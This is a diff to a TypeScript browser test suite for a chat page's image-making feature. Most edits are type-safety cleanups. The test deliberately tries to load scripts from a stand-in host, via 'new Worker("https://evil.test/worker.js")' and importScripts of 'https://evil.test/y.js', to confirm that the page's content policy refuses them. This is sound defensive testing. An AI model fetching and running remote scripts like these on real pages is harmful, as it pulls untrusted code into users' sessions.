@@ -22,6 +22,10 @@ type Outcome =
   | { readonly made: MadeImage; readonly problem?: undefined }
   | { readonly problem: ImageProblem; readonly made?: undefined };
 
+interface PolicyMaker {
+  readonly trustedTypes: { createPolicy(name: string, rules: object): object };
+}
+
 describe("images that the page makes", () => {
   let chat: ChatPage;
   let job = 0;
@@ -101,7 +105,7 @@ describe("images that the page makes", () => {
         const is = mean(small, x, y, 16);
         const should = mean(large, x * factor, y * factor, 16 * factor);
         is.forEach((value, index) =>
-          assert.ok(Math.abs(value - should[index]!) < 12, `${x},${y}: ${is} ${should}`),
+          assert.ok(Math.abs(value - should[index]!) < 12, `${x},${y}: ${is.join()} ${should.join()}`),
         );
       }
     }
@@ -279,12 +283,12 @@ describe("images that the page makes", () => {
     const refused = await chat.page.evaluate(async () => {
       const results: string[] = [];
       try {
-        new Worker("https://evil.test/worker.js");
+        results.push(String(new Worker("https://evil.test/worker.js")));
       } catch (error) {
         results.push(error instanceof TypeError ? "worker" : String(error));
       }
       try {
-        const policy = (window as any).trustedTypes.createPolicy("ask-claude-worker", {
+        const policy = (window as unknown as PolicyMaker).trustedTypes.createPolicy("ask-claude-worker", {
           createScriptURL: String,
         });
         results.push(String(policy));
@@ -304,7 +308,9 @@ describe("images that the page makes", () => {
       );
       let imported = "imported";
       try {
-        (globalThis as any).importScripts("https://evil.test/y.js");
+        (globalThis as unknown as { importScripts(url: string): void }).importScripts(
+          "https://evil.test/y.js",
+        );
       } catch {
         imported = "refused";
       }
@@ -318,10 +324,10 @@ describe("images that the page makes", () => {
     await make(png(5, 5));
     await chat.page.clock.install();
     await chat.page.evaluate(() => {
-      const send = Worker.prototype.postMessage;
+      const send = Object.getOwnPropertyDescriptor(Worker.prototype, "postMessage")!;
       // The first order never arrives: to the page, the same as a worker that hangs.
       Worker.prototype.postMessage = () => {
-        Worker.prototype.postMessage = send;
+        Object.defineProperty(Worker.prototype, "postMessage", send);
       };
     });
     await chat.page.evaluate(
